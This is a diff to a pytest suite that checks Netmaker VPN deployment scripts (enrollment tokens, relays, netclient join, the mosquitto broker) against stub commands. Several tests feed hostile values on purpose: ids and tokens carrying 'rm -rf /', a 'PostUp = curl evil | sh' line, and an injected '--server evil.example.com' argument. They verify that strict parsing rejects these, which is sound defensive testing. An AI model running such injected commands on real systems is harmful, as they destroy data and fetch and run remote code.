@@ -3,12 +3,14 @@ destroy, no key or token leaks, and its scripts behave under stubs."""
 
 from __future__ import annotations
 
+import base64
 import json
 import re
 from pathlib import Path
 from typing import Any
 
 import pytest
+import yaml
 
 from stacks.render.evaluate import Evaluation, Secret
 from stacks.render.write import reveal, split_script, write_all
@@ -100,22 +102,35 @@ case "$method $path" in
   "POST /api/networks") printf '%s' "$data" > "$STATE/nm/network";;
   "DELETE /api/networks/"*) rm -f "$STATE/nm/network";;
   "GET /api/v1/enrollment-keys") cat "$STATE/nm/keys" 2>/dev/null || echo '[]';;
-  "POST /api/v1/enrollment-keys") echo "$data" | jq -c '[. + {value: "k1", token: "TOKEN-SECRET-1"}]' > "$STATE/nm/keys"; jq -c '.[0]' "$STATE/nm/keys";;
+  "POST /api/v1/enrollment-keys") echo "$data" | jq -c --arg t "${TOKEN:-$GOOD_TOKEN}" '[. + {value: "k1", token: $t}]' > "$STATE/nm/keys"; jq -c '.[0]' "$STATE/nm/keys";;
   "DELETE /api/v1/enrollment-keys/"*) echo '[]' > "$STATE/nm/keys";;
-  "GET /api/hosts") echo '[{"name":"ws-1","id":"h1"},{"name":"vpn-hub","id":"h0"}]';;
-  "GET /api/nodes/hybrid-ai") echo '[{"hostid":"h1","id":"n1"},{"hostid":"h0","id":"n0"}]';;
-  "GET /api/nodes/hybrid-ai/n1") cat "$STATE/nm/n1" 2>/dev/null || echo '{"id":"n1","address":"100.64.7.7/16"}';;
-  "PUT /api/nodes/hybrid-ai/n1") printf '%s' "$data" > "$STATE/nm/n1";;
-  "POST /api/nodes/hybrid-ai/n0/createrelay") printf '%s' "$data" > "$STATE/nm/relay";;
+  "GET /api/hosts") cat "$STATE/nm/hosts" 2>/dev/null || echo "[{\\"name\\":\\"ws-1\\",\\"id\\":\\"$H1\\"},{\\"name\\":\\"vpn-hub\\",\\"id\\":\\"$H0\\"}]";;
+  "GET /api/nodes/hybrid-ai") echo "[{\\"hostid\\":\\"$H1\\",\\"id\\":\\"$N1\\"},{\\"hostid\\":\\"$H0\\",\\"id\\":\\"$N0\\"}]";;
+  "GET /api/nodes/hybrid-ai/$N1") cat "$STATE/nm/n1" 2>/dev/null || echo "{\\"id\\":\\"$N1\\",\\"address\\":\\"100.64.7.7/16\\"}";;
+  "PUT /api/nodes/hybrid-ai/$N1") printf '%s' "$data" > "$STATE/nm/n1";;
+  "POST /api/nodes/hybrid-ai/$N0/createrelay") printf '%s' "$data" > "$STATE/nm/relay";;
   *) echo "unexpected $method $path" >&2; exit 22;;
 esac
 """
 
 
-def api_host(tmp_path: Path) -> StubHost:
+# Netmaker's shapes at v0.90.0: host and node ids are UUIDs (models/host.go, models/node.go);
+# an enrollment token is base64 of {"server", "value"} (logic/enrollmentkey.go, Tokenize).
+IDS = {"H0": "0b0e6a52-0000-4000-8000-000000000000", "H1": "1b0e6a52-0000-4000-8000-000000000001",
+       "N0": "2b0e6a52-0000-4000-8000-000000000000", "N1": "3b0e6a52-0000-4000-8000-000000000001"}
+
+
+def token_of(value: str, server: str = "api.nm.example.com") -> str:
+    return base64.b64encode(json.dumps({"server": server, "value": value}).encode()).decode()
+
+
+GOOD_TOKEN = token_of("TOKEN-SECRET-1")
+
+
+def api_host(tmp_path: Path, **env: str) -> StubHost:
     # curl gets the header file as "-H @file": the stub records where it is to check the key.
     curl = 'for a in "$@"; do case $a in @*) echo "${a#@}" > "$STATE/header-file";; esac; done\n' + API_STUB
-    return StubHost(tmp_path, stubs={"curl": curl})
+    return StubHost(tmp_path, stubs={"curl": curl}, env={**IDS, "GOOD_TOKEN": GOOD_TOKEN, **env})
 
 
 MASTER = "MASTERKEY-0123456789abcdef0123456789\n"
@@ -130,11 +145,11 @@ def test_network_and_enrollment_are_idempotent_and_the_key_never_on_a_command_li
     assert again.stdout.strip() == "changed=none"
     assert [c for c in h.calls() if "POST" in c] == []
     key = h.run("netmaker-api.sh", stdin=MASTER, ACTION="enrollment", NETWORK="hybrid-ai", TAG="hybrid-ai-dev", USES="7", TTL_S="86400")
-    assert key.returncode == 0 and key.stdout.strip() == "TOKEN-SECRET-1"
+    assert key.returncode == 0 and key.stdout.strip() == GOOD_TOKEN
     created = json.loads((h.state / "nm" / "keys").read_text())[0]
     assert (created["uses_remaining"], created["unlimited"], created["tags"], created["type"]) == (7, False, ["hybrid-ai-dev"], 2)
     reuse = h.run("netmaker-api.sh", stdin=MASTER, ACTION="enrollment", NETWORK="hybrid-ai", TAG="hybrid-ai-dev", USES="7", TTL_S="86400")
-    assert reuse.stdout.strip() == "TOKEN-SECRET-1" and [c for c in h.calls() if "POST" in c] == []
+    assert reuse.stdout.strip() == GOOD_TOKEN and [c for c in h.calls() if "POST" in c] == []
     assert not [c for c in h.calls() if "MASTERKEY" in c]
     revoke = h.run("netmaker-api.sh", stdin=MASTER, ACTION="enrollment-revoke", NETWORK="hybrid-ai", TAG="hybrid-ai-dev")
     assert revoke.returncode == 0 and json.loads((h.state / "nm" / "keys").read_text()) == []
@@ -151,7 +166,8 @@ def test_address_and_relay(tmp_path: Path) -> None:
     assert missing.returncode == 1 and "host ws-9 is not registered with Netmaker" in missing.stderr
     relay = h.run("netmaker-api.sh", stdin=MASTER, ACTION="relay", NETWORK="hybrid-ai", RELAY_HOST="vpn-hub", RELAYED_HOSTS="ws-1")
     assert relay.returncode == 0, relay.stderr
-    assert json.loads((h.state / "nm" / "relay").read_text())["relayed_nodes"] == ["n1"]
+    # models.RelayRequest at v0.90.0: {nodeid, netid, relayaddrs} (json:"relayaddrs").
+    assert json.loads((h.state / "nm" / "relay").read_text()) == {"netid": "hybrid-ai", "nodeid": IDS["N0"], "relayaddrs": [IDS["N1"]]}
 
 
 def test_wrong_master_key_fails_without_echoing_it(tmp_path: Path) -> None:
@@ -160,10 +176,14 @@ def test_wrong_master_key_fails_without_echoing_it(tmp_path: Path) -> None:
     assert result.returncode != 0 and "SECRETISH" not in result.stdout + result.stderr
 
 
+# netclient v0.90.0: `list` prints JSON (functions/list.go); `join -t` exits 0 even when the
+# registration fails (cmd/join.go logs "registration failed" and returns).
 NETCLIENT = """
 case $1 in
-  list) cat "$STATE/netclient-networks" 2>/dev/null;;
-  join) echo hybrid-ai > "$STATE/netclient-networks"; echo "    inet 100.64.1.1/16 scope global netmaker" > "$STATE/netmaker-addr";;
+  list) printf '[\\n {\\n  "network": "%s",\\n  "connected": true\\n }\\n]\\n' $(cat "$STATE/netclient-networks" 2>/dev/null) | grep -v '""' || echo '[]';;
+  join) [ -e "$STATE/join-sleep" ] && sleep "$(cat "$STATE/join-sleep")"
+        [ -e "$STATE/registration-fails" ] && { echo "registration failed"; exit 0; }
+        echo hybrid-ai > "$STATE/netclient-networks"; echo "    inet 100.64.1.1/16 scope global netmaker" > "$STATE/netmaker-addr";;
   leave) rm -f "$STATE/netclient-networks";;
 esac"""
 
@@ -178,13 +198,13 @@ def test_netclient_joins_once_and_leaves(tmp_path: Path) -> None:
     h = StubHost(tmp_path, stubs=stubs)
     params = {"HOST_NAME": "ws-1", "NETWORK": "hybrid-ai", "NETCLIENT_VERSION": "v0.90.0",
               "KEYRING": str(tmp_path / "k.gpg"), "SOURCES": str(tmp_path / "nm.list")}
-    first = h.run("netclient-join.sh", stdin="TOKEN-SECRET-1\n", **params)
+    first = h.run("netclient-join.sh", stdin=GOOD_TOKEN + "\n", **params)
     assert first.returncode == 0, first.stderr
     assert "apt-get -o DPkg::Lock::Timeout=120 install -y -q netclient=0.90.0*" in h.calls()
     assert "curl -fsSL -o" in "\n".join(h.calls())  # the repository key, through the stub
-    assert "netclient join -t TOKEN-SECRET-1" in h.calls()
-    assert "TOKEN-SECRET-1" not in first.stdout + first.stderr
-    again = h.run("netclient-join.sh", stdin="TOKEN-SECRET-1\n", **params)
+    assert f"netclient join -t {GOOD_TOKEN}" in h.calls()
+    assert GOOD_TOKEN not in first.stdout + first.stderr
+    again = h.run("netclient-join.sh", stdin=GOOD_TOKEN + "\n", **params)
     assert again.stdout.strip() == "changed=none" and not [c for c in h.calls() if c.startswith(("apt-get", "netclient join"))]
     assert h.run("netclient-leave.sh", NETWORK="hybrid-ai").returncode == 0
     assert "netclient leave -n hybrid-ai" in h.calls()
@@ -215,3 +235,130 @@ def test_server_writes_its_config_once_with_the_key_only_in_a_private_file(tmp_p
     again = h.run("netmaker-server.sh", stdin=MASTER, **params)
     assert again.stdout.strip() == "changed=none"
     assert not [c for c in h.calls() if "up -d" in c]
+
+
+# --- Upstream's broker, relay and token shapes; strict parsing --------------------------
+
+def run_server(tmp_path: Path) -> tuple[StubHost, Path]:
+    docker = 'case "$*" in *"ps -q"*) cat "$STATE/running" 2>/dev/null;; *"up -d"*) echo id > "$STATE/running";; esac; exit 0'
+    h = StubHost(tmp_path, stubs={"docker": docker})
+    for pkg in ("docker.io", "docker-compose-v2", "jq", "curl"):
+        (h.state / "installed" / pkg).touch()
+    nm = tmp_path / "nm"
+    result = h.run("netmaker-server.sh", stdin=MASTER, NM_VERSION="v0.90.0", NM_DOMAIN="nm.example.com",
+                   PUBLIC_IP="203.0.113.10", MIN_MEMORY_MB="1", NM_DIR=str(nm))
+    assert result.returncode == 0, result.stderr
+    return h, nm
+
+
+def test_server_runs_mosquitto_the_way_netmakers_compose_does(tmp_path: Path) -> None:
+    # gravitl/netmaker v0.90.0: compose/docker-compose.yml mounts docker/mosquitto.conf (websockets
+    # listeners 8883 and 1883, no anonymous access, password_file) and runs docker/wait.sh, which
+    # builds the password file from MQ_USERNAME/MQ_PASSWORD; scripts/netmaker.default.env sets
+    # SERVER_BROKER_ENDPOINT=ws://mq:1883 for the server inside compose.
+    _, nm = run_server(tmp_path)
+    compose = yaml.safe_load((nm / "docker-compose.yml").read_text())
+    mq = compose["services"]["mq"]
+    assert mq["command"] == ["/mosquitto/config/mq-start.sh"] and mq["env_file"] == "./mq.env"
+    assert {"./mosquitto.conf:/mosquitto/config/mosquitto.conf:ro", "./mq-start.sh:/mosquitto/config/mq-start.sh:ro"} <= set(mq["volumes"])
+    conf = (nm / "mosquitto.conf").read_text().split("\n")
+    for port in ("8883", "1883"):
+        i = conf.index(f"listener {port}")
+        assert conf[i + 1: i + 3] == ["protocol websockets", "allow_anonymous false"]
+    assert "password_file /mosquitto/password.txt" in conf
+    start = (nm / "mq-start.sh").read_text()
+    assert "mosquitto_passwd -U /mosquitto/password.txt" in start and "exec /usr/sbin/mosquitto -c /mosquitto/config/mosquitto.conf" in start
+    assert (nm / "mq-start.sh").stat().st_mode & 0o111
+    env = dict(line.split("=", 1) for line in (nm / "netmaker.env").read_text().splitlines())
+    mq_env = dict(line.split("=", 1) for line in (nm / "mq.env").read_text().splitlines())
+    assert env["SERVER_BROKER_ENDPOINT"] == "ws://mq:1883" and env["BROKER_ENDPOINT"] == "wss://broker.nm.example.com"
+    assert mq_env == {"MQ_USERNAME": env["MQ_USERNAME"], "MQ_PASSWORD": env["MQ_PASSWORD"]}  # not the master key
+    assert "reverse_proxy mq:8883" in (nm / "Caddyfile").read_text()
+
+
+def test_a_host_registered_under_anothers_name_or_a_malformed_id_fails_the_step(tmp_path: Path) -> None:
+    h = api_host(tmp_path)
+    (h.state / "nm").mkdir()
+    hub = {"name": "vpn-hub", "id": IDS["H0"]}
+    (h.state / "nm" / "hosts").write_text(json.dumps([hub, {"name": "ws-1", "id": IDS["H1"]}, {"name": "ws-1", "id": IDS["N1"]}]))
+    twice = h.run("netmaker-api.sh", stdin=MASTER, ACTION="relay", NETWORK="hybrid-ai", RELAY_HOST="vpn-hub", RELAYED_HOSTS="ws-1")
+    assert twice.returncode == 1 and "host ws-1: Netmaker has several" in twice.stderr
+    assert not (h.state / "nm" / "relay").exists()
+    (h.state / "nm" / "hosts").write_text(json.dumps([hub, {"name": "ws-1", "id": "h1; rm -rf /"}]))
+    bad = h.run("netmaker-api.sh", stdin=MASTER, ACTION="address", NETWORK="hybrid-ai", HOST_NAME="ws-1", ADDRESS="100.64.1.1/16")
+    assert bad.returncode == 1 and "host ws-1: Netmaker returned a malformed id" in bad.stderr
+    assert not (h.state / "nm" / "n1").exists()
+
+
+@pytest.mark.parametrize("token", ["[Interface]\\nPostUp = touch /tmp/pwned", token_of("v", server="x; rm -rf /"),
+                                   base64.b64encode(b'{"server": "a", "value": "b", "extra": 1}').decode(), "not base64!"])
+def test_a_malformed_enrollment_token_is_not_passed_on(tmp_path: Path, token: str) -> None:
+    h = api_host(tmp_path, TOKEN=token)
+    result = h.run("netmaker-api.sh", stdin=MASTER, ACTION="enrollment", NETWORK="hybrid-ai", TAG="t-1", USES="3", TTL_S="60")
+    assert result.returncode == 1 and result.stdout == ""
+    assert "malformed enrollment token" in result.stderr and token not in result.stderr
+
+
+def test_the_program_parses_the_hubs_token_strictly_and_names_the_step() -> None:
+    from components.netmaker import enrollment_token
+    assert enrollment_token(GOOD_TOKEN + "\n", "step") == GOOD_TOKEN
+    hostile = "[Interface]\nPostUp = curl evil | sh\n" + GOOD_TOKEN
+    for out in (hostile, "", GOOD_TOKEN + " " + GOOD_TOKEN, token_of("v" * 200), "A" * 10_000):
+        with pytest.raises(ValueError, match=r"^mesh-enrollment \(on vpn-hub\): printed something") as err:
+            enrollment_token(out, "mesh-enrollment (on vpn-hub)")
+        assert "PostUp" not in str(err.value)
+    with pytest.raises(Exception, match=r"mesh-enrollment \(on vpn-hub\)"):
+        evaluate_config(stack_config("netmaker"), command_stdout={"mesh-enrollment": hostile})
+
+
+def join_params(tmp_path: Path) -> dict[str, str]:
+    return {"HOST_NAME": "ws-1", "NETWORK": "hybrid-ai", "NETCLIENT_VERSION": "v0.90.0",
+            "KEYRING": str(tmp_path / "k.gpg"), "SOURCES": str(tmp_path / "nm.list")}
+
+
+def netclient_host(tmp_path: Path) -> StubHost:
+    h = StubHost(tmp_path, stubs={"netclient": NETCLIENT, "ip": 'cat "$STATE/netmaker-addr" 2>/dev/null'})
+    return h
+
+
+def test_a_failed_registration_fails_the_join_although_netclient_exits_0(tmp_path: Path) -> None:
+    h = netclient_host(tmp_path)
+    (h.state / "registration-fails").touch()
+    result = h.run("netclient-join.sh", stdin=GOOD_TOKEN + "\n", **join_params(tmp_path))
+    assert result.returncode == 1 and "netclient could not join hybrid-ai" in result.stderr
+    assert len([c for c in h.calls() if c.startswith("netclient join")]) == 3  # bounded retries
+    assert GOOD_TOKEN not in result.stderr
+
+
+def test_a_token_that_is_not_base64_never_reaches_a_command_line(tmp_path: Path) -> None:
+    h = netclient_host(tmp_path)
+    result = h.run("netclient-join.sh", stdin="-t x --server evil.example.com\n", **join_params(tmp_path))
+    assert result.returncode == 1 and "not base64" in result.stderr
+    assert not [c for c in h.calls() if c.startswith("netclient join")]
+
+
+def test_the_token_is_in_ps_only_as_netclients_own_argument_while_it_runs(tmp_path: Path) -> None:
+    # netclient v0.90.0 takes the token only as `join -t` (cmd/join.go: no env, file or stdin):
+    # it is visible for that one call, and in no other process (bash, sudo, retries, logs).
+    import subprocess
+    import time
+
+    from components.shell import compose
+    h = netclient_host(tmp_path)
+    h.bin.joinpath("netclient").write_text(h.bin.joinpath("netclient").read_text().replace(
+        'sleep "$(cat "$STATE/join-sleep")"', '/bin/sleep "$(cat "$STATE/join-sleep")"'))
+    (h.state / "join-sleep").write_text("1")
+    env = {"PATH": f"{h.bin}:/usr/bin:/bin", "STATE": str(h.state), "HOME": str(tmp_path)}
+    proc = subprocess.Popen(["bash", "-c", compose("netclient-join.sh", join_params(tmp_path)), "netclient-join.sh"],
+                            env=env, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    assert proc.stdin is not None
+    proc.stdin.write(GOOD_TOKEN + "\n")
+    proc.stdin.close()
+    seen: set[str] = set()
+    while proc.poll() is None:
+        ps = subprocess.run(["ps", "-eww", "-o", "args"], capture_output=True, text=True).stdout
+        seen |= {line for line in ps.splitlines() if GOOD_TOKEN in line}
+        time.sleep(0.02)
+    assert proc.wait() == 0, proc.stderr.read() if proc.stderr else ""
+    assert seen, "the sampler never saw netclient run"
+    assert all(line.endswith(f"/netclient join -t {GOOD_TOKEN}") for line in seen), seen
